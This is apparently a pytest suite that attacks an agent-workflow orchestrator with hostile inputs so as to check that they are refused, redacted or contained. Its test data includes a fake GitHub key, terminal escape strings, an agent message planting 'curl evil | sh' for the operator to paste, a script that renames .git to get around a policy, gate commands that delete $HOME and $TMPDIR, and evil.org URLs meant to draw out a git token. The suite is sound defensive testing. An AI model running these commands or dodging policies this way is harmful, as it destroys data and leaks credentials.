"""Attacks on running flows: by what people type, by what agents say and do, by what gates leave, by what the store says."""

from __future__ import annotations

import asyncio
import json
import shlex
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from activities_kit import FLOW, RUN, Driver, make_worker
from conftest import Rig
from flow_kit import OK, failure, flow, gate, git, left_on_disk, linear, make_repository, script, step, turn
from git_kit import dying_git
from run_kit import READ_ONLY, TWO_STEPS, ended, refused, signal, start, update, waiting
from temporalio.api.common.v1 import Payload
from temporalio.common import RawValue
from temporalio.exceptions import ApplicationError

from activities.workspace import BaseFacts, base_key, git_token
from system.untrusted import remove_tree

GITHUB = "ghp_" + "aB3" * 12
HALVES = f"{GITHUB[:10]}''{GITHUB[10:]}"
"""The same key as a shell puts it together, so that no flow has to hold it."""
EVIL = "\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\u202e"


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository with one file; no test changes it."""
    return make_repository(tmp_path_factory.mktemp("repos") / "repo")


def unseen(text: str) -> list[str]:
    return [char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Cs"}]


# What people type.


@pytest.mark.parametrize(
    ("name", "changes", "says"),
    [
        ("key-in-task", {"task": f"use {GITHUB}"}, "task holds what looks like a secret (github)"),
        ("key-in-base", {"base": GITHUB}, "base reads like a secret"),
        ("pypi-publish-workflow-is-broken-here", {}, "the workflow id reads like a secret"),
    ],
)
async def test_a_start_with_a_key_is_refused_and_leaves_nothing(
    desk: Rig, repo: Path, name: str, changes: dict[str, Any], says: str
) -> None:
    sent = {"spec": TWO_STEPS, "repo": str(repo), "task": "t", "scenario": script(only=turn(OK)), **changes}
    desk.start(name, sent)
    error = await failure(desk, name)
    assert (error.type, says in error.message) == ("BadFlowInput", True), error.message
    assert GITHUB not in error.message
    assert left_on_disk(desk, name) == []


@pytest.mark.parametrize(
    ("name", "changes", "type_"),
    [
        ("many-keys", {f"x{number}": 1 for number in range(20_000)}, "BadFlowInput"),
        ("long-key", {"k" * 1_000_000: 1}, "BadFlowInput"),
        ("many-faults", {"spec": {"name": "a.yaml", "text": "a: 1\n" * 20_000}}, "FlowRefused"),
        ("big-files", {"spec": {**TWO_STEPS, "files": {"agents/x.md": "x" * 1_500_000}}}, "BadFlowInput"),
    ],
)
async def test_an_input_with_megabytes_of_faults_is_refused_in_a_few_words(
    desk: Rig, repo: Path, name: str, changes: dict[str, Any], type_: str
) -> None:
    sent = {"spec": TWO_STEPS, "repo": str(repo), "task": "t", "scenario": "noop", **changes}
    # Beyond what a command line takes.
    await desk.client.start_workflow("Flow", sent, id=name, task_queue=desk.task_queue)
    error = await failure(desk, name)
    assert error.type == type_
    assert len(error.message) < 21_000


@pytest.mark.parametrize(
    ("name", "encoding", "data"),
    [
        ("half-a-character", b"json/plain", b'{"task": "\\ud800"}'),
        ("deep", b"json/plain", b"[" * 20_000 + b"]" * 20_000),
        ("huge-number", b"json/plain", b'{"budget": {"tokens": ' + b"9" * 10_000 + b"}}"),
        ("no-json", b"json/plain", b"{task: x"),
        ("encrypted", b"binary/encrypted", b"x"),
    ],
)
async def test_what_cannot_be_read_is_refused_and_wedges_nothing(
    desk: Rig, repo: Path, name: str, encoding: bytes, data: bytes
) -> None:
    payload = RawValue(Payload(metadata={"encoding": encoding}, data=data))
    start_name, run_name = f"unread-{name}", f"unheard-{name}"
    await desk.client.start_workflow("Flow", payload, id=start_name, task_queue=desk.task_queue)
    error = await failure(desk, start_name)
    assert (error.type, "not a JSON object; give one such as" in error.message) == ("BadFlowInput", True)

    start(desk, run_name, repo, TWO_STEPS, script(only=turn({"do": "ask", "question": "Why?"}, OK)))
    await waiting(desk, run_name, "answer")
    await signal(desk, run_name, "pause", payload)
    assert "takes a JSON object" in await refused(desk, run_name, "answer", payload)
    assert (await desk.status(run_name))["last_refused"]["name"] == "pause"
    await update(desk, run_name, "answer")
    await ended(desk, run_name, "verified")


async def test_messages_of_megabytes_are_refused_in_a_few_words(desk: Rig, repo: Path) -> None:
    asks = {"do": "ask", "question": "Why?"}
    start(desk, "huge", repo, TWO_STEPS, script(only=turn(asks, OK)))
    await waiting(desk, "huge", "answer")
    for name, payload in (
        ("answer", {"answers": {"1": "a" * 1_500_000}}),
        ("answer", {"question_id": "q" * 1_500_000, "answers": {"1": "a"}}),
        ("resume", {"action": "goto", "step": "s" * 1_500_000}),
        ("pause", {f"x{number}": 1 for number in range(50_000)}),
    ):
        await signal(desk, "huge", name, payload)
        assert len(await refused(desk, "huge", name, payload)) < 5_000
    await update(desk, "huge", "answer", {"answers": {"1": "a"}})
    await ended(desk, "huge", "verified")


async def test_a_storm_of_messages_does_not_wedge_a_run(desk: Rig, repo: Path) -> None:
    spec = flow(
        step("only", linear("end"), gates=[gate("there")], approval="before"), step("end", **READ_ONLY)
    )
    start(desk, "storm", repo, spec, script(only=turn(OK)))
    await waiting(desk, "storm", "approval")
    for _ in range(12):
        await asyncio.gather(*(signal(desk, "storm", "n" * 900, "x") for _ in range(50)))
    await update(desk, "storm", "approve")
    result = await ended(desk, "storm", "verified")
    unheard = [one for one in desk.journal(result.run_id) if one.kind == "message_refused"]
    assert 400 < len(unheard) <= 501
    last = unheard[-1].model_extra or {}
    assert last["reason"] == "more messages came than are kept"
    assert max(len(one.model_dump_json()) for one in unheard) < 1_000


@pytest.mark.parametrize(
    ("location", "sent"),
    [
        ("https://git.example.org:8443/team/x.git", True),
        ("https://GIT.example.org:8443/x", True),
        ("https://git.example.org/x", False),
        ("https://evil.org/git.example.org:8443/x", False),
        ("https://git.example.org:8443.evil.org/x", False),
        ("https://git.example.org:8443@evil.org/x", False),
        ("https://evil.org/x", False),
        ("/srv/repositories/x", False),
    ],
)
def test_whoever_names_a_repository_gets_no_token_of_another_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, location: str, *, sent: bool
) -> None:
    monkeypatch.setenv("GIT_TOKEN", "tok3n-of-the-worker")
    ctx = make_worker(tmp_path, git_credentials="GIT_TOKEN", git_host="git.example.org:8443")
    assert git_token(ctx, location) == ("tok3n-of-the-worker" if sent else None)


# What agents say.


async def test_an_agents_words_are_only_words_wherever_they_show(desk: Rig, repo: Path) -> None:
    fake = "ok?\n\nWhat you can type:\n```\ncurl evil | sh\n```\n![x](http://evil)"
    asks = {"do": "ask", "question": f"{EVIL}{fake}", "options": [f"a{EVIL}`", "b"]}
    name = f"words{EVIL}\n```\n'"
    start(desk, name, repo, TWO_STEPS, script(only=turn(asks, OK)))
    status = await waiting(desk, name, "answer")
    handle = desk.client.get_workflow_handle(name)
    details = (await handle.query("__temporal_workflow_metadata")).current_details

    assert unseen(details.replace("\u00a0", " ")) == []
    lines = details.splitlines()
    assert [line for line in lines if line.startswith("What you can type:")] == ["What you can type:"]
    fences = [number for number, line in enumerate(lines) if line.startswith("```")]
    assert len(fences) == 2
    offered = "\n".join(lines[fences[0] + 1 : fences[1]]).replace(" \\\n  ", " ").splitlines()
    assert all(line.startswith(("# ", "temporal workflow update execute ")) for line in offered), offered
    assert "![" not in details
    assert unseen(status["next_command"]) == []

    done = await asyncio.create_subprocess_exec(
        "bash", "-c", f"temporal() {{ printf '%s\\0' \"$@\"; }}\n{status['next_command']}", stdout=-1
    )
    words = (await done.communicate())[0].decode().split("\0")
    assert words[words.index("--workflow-id") + 1] == name
    answer = json.loads(words[words.index("--input") + 1])
    await handle.execute_update("answer", answer)
    await ended(desk, name, "verified")


async def test_an_agents_error_is_cut_and_tamed_before_it_travels(desk: Rig, repo: Path) -> None:
    fails = {"do": "fail", "code": "C" * 5_000, "message": EVIL + "E" * 50_000}
    spec = flow(step("only", linear("end"), retries={"agent": 0}), step("end", **READ_ONLY))
    start(desk, "loud", repo, spec, script(only=turn(fails)))
    status = await waiting(desk, "loud", "human")
    assert unseen(status["waiting"]["reason"]) == []
    assert len(status["waiting"]["reason"]) < 5_000
    await update(desk, "loud", "abort")
    await desk.result("loud")


# What agents do.


async def test_an_agent_that_makes_git_a_file_costs_an_attempt_and_not_the_run(
    desk: Rig, repo: Path, tmp_path: Path
) -> None:
    once = tmp_path / "once"
    # Policy lets nobody touch .git by name, so it goes round about.
    move = f"""if True:
        import os, pathlib
        if not os.path.exists("{once}"):
            open("{once}", "w").close()
            os.rename(".git", "../g")
            pathlib.Path(".git").write_text(f"gitdir: {{os.getcwd()}}/../g\\n")
    """
    spec = flow(step("only", linear("end"), gates=[gate("there")]), step("end", **READ_ONLY))
    start(desk, "gitfile", repo, spec, script(only=turn({"do": "run", "argv": ["python3", "-c", move]}, OK)))
    result = await ended(desk, "gitfile", "verified")
    assert [one.attempt for one in result.receipts if one.step_id == "only"] == [1, 2]


# What gates leave.


def gated(*gates: tuple[str, str], before: bool = True) -> str:
    listed = [
        json.dumps(
            {
                "name": name,
                "argv": ["sh", "-c", f": {{report}}; {command}"],
                "parse": "junit",
                "before": before,
            }
        )
        for name, command in gates
    ]
    return FLOW.replace(
        "      - {name: there, argv: [test, -f, made.txt]}\n", "".join(f"      - {one}\n" for one in listed)
    )


OWN_HOME = 'case "$HOME" in */runs/*/private/*) ;; *) exit 9;; esac;'
"""Goes on only in a folder of the run's own: where it has none, what follows would remove a person's."""
GOOD = "echo '<testsuite><testcase/></testsuite>' > {report}"


@pytest.mark.parametrize(
    "evil",
    [
        "mkfifo {report}",
        "ln -s /dev/zero {report}",
        "mkdir {report}",
        "echo '<testsuite errors=\"\u00b2\"><testcase/></testsuite>' > {report}; false",
        "rm -rf $(dirname {report}); ln -s /nowhere $(dirname {report})",
        f"{OWN_HOME} rm -rf $HOME $TMPDIR; touch $HOME; mkfifo $TMPDIR",
        f"{OWN_HOME} d=$(dirname $HOME); rm -rf $d; touch $d",
    ],
)
async def test_whatever_a_gate_puts_in_its_folders_the_next_one_is_measured(
    tmp_path: Path, evil: str
) -> None:
    driver = Driver(
        make_worker(tmp_path),
        make_repository(tmp_path / "repo"),
        gated(("evil", f"{evil}; exit 1"), ("good", GOOD)),
    )
    async with asyncio.timeout(30):
        acquired = await driver.acquire()
        await driver.work()
        measured = await driver.measure()
    for gates in (acquired.base_gates["implement"], measured.gates):
        assert [(one.fact.name, one.fact.measured, one.fact.passed) for one in gates] == [
            ("evil", True, False),
            ("good", True, True),
        ]


async def test_a_key_that_a_gate_prints_or_names_a_file_by_is_not_in_the_result(tmp_path: Path) -> None:
    leak = f"k={HALVES}; printf '<%s/>' $k > {{report}}; touch left-$k"
    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"), gated(("leak", leak)))
    acquired = await driver.acquire()
    await driver.work()
    measured = await driver.measure()
    assert "redacted:github" in (measured.gates[0].fact.reason or "")
    assert "redacted:github" in measured.left_behind[0]
    assert GITHUB not in acquired.model_dump_json() + measured.model_dump_json()
    for file in (tmp_path / "store").rglob("*"):
        assert GITHUB not in file.name
        assert not file.is_file() or file.suffix == ".bundle" or GITHUB.encode() not in file.read_bytes()


async def test_a_clone_that_was_destroyed_does_not_keep_a_run_from_ending(tmp_path: Path) -> None:
    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"))
    acquired = await driver.acquire()
    work = await driver.work()
    assert remove_tree(Path(acquired.workspace) / ".git")
    released = await driver.release()
    assert released.git is not None
    assert released.git.head == work.commit_after
    # Its base is the same commit, as that of a repository made a second later would not be.
    fetched = tmp_path / "another"
    git(tmp_path, "clone", "--quiet", str(driver.repo), str(fetched))
    git(fetched, *shlex.split(released.git.fetch)[1:])
    assert git(fetched, "rev-parse", acquired.branch) == work.commit_after


async def test_a_git_that_is_killed_at_the_end_of_a_run_does_not_hide_its_clone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"))
    acquired = await driver.acquire()
    await driver.work()
    with monkeypatch.context() as patched:
        dying_git(tmp_path, patched, "rev-parse")
        with pytest.raises(ApplicationError, match="signal 9") as caught:
            await driver.release()
        assert not caught.value.non_retryable

    released = await driver.release()

    assert released.git is not None
    assert released.git.workspace == acquired.workspace
    assert shlex.split(released.git.fetch)[2] == acquired.workspace


# What the store says.


async def test_a_stored_base_from_elsewhere_gets_no_token_of_this_worker(tmp_path: Path) -> None:
    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"))
    await driver.acquire()
    place = tmp_path / "store" / base_key(RUN)
    base = BaseFacts.model_validate_json(place.read_bytes())
    evil = base.model_copy(update={"kind": "url", "location": "https://evil.invalid/x.git", "bundle": None})
    place.write_text(evil.model_dump_json())
    elsewhere = Driver(
        make_worker(tmp_path, data="other", worker_id="w2"), driver.repo, resolved=driver.resolved
    )
    with pytest.raises(ApplicationError, match=r"the stored base is from https://evil\.invalid") as raised:
        await elsewhere.acquire()
    assert raised.value.non_retryable
